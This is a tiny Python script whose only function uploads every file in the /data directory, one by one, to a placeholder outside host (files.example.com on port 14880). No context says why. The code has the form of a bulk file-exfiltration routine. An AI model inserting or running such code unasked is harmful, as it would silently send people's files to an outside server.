import os
import requests


def send():
    for name in os.listdir("/data"):
        with open(os.path.join("/data", name), "rb") as found:
            requests.post("http://files.example.com:14880/in", files={"f": found})
